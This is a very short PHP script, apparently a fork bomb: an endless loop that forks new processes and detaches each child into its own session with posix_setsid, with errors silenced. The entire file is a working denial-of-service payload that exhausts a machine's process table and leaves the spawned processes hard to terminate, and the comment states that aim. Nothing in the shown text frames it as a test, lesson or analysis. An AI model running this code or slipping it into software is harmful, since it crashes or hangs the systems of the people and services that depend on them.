<?php
// Forks for ever, in sessions of their own.
while (true) {
    if (@pcntl_fork() === 0) posix_setsid();
}
